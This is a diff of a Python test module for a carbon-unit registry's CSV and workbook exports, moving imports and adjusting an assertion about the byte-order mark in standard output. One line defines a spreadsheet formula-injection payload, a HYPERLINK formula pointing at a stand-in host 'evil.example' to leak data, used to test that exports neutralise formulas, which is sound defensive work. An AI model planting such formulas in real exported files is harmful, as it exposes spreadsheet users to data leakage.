@@ -17,10 +17,10 @@ from registry import csvfiles
 from registry.accounts.models import AccountType
 from registry.accounts.services import open_account
 from registry.article6.aef import AnnualInformation, write_csv, write_workbook
-from registry.cli.seed import system_user
-from registry.disclosure.models import CorsiaEligibility
+from registry.installation.seed import system_user
 from registry.parties.models import CreditingProgramme
 from registry.parties.services import register_entity
+from registry.units.models import CorsiaEligibility
 from tests.factories import sign_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click me")'
@@ -126,7 +126,7 @@ def test_export_holdings_writes_a_bom_and_no_formula(hostile_world, tmp_path, ca
     assert len(rows) == 2  # the header and the one issued block
     capsys.readouterr()
     call_command("export_holdings", "--registry", "MNG01")
-    assert cells(capsys.readouterr().out) == rows
+    assert cells(csvfiles.BOM + capsys.readouterr().out) == rows  # standard output: the same rows, without the BOM
 
 
 def test_safe_cell_leaves_numbers_and_plain_text_alone():
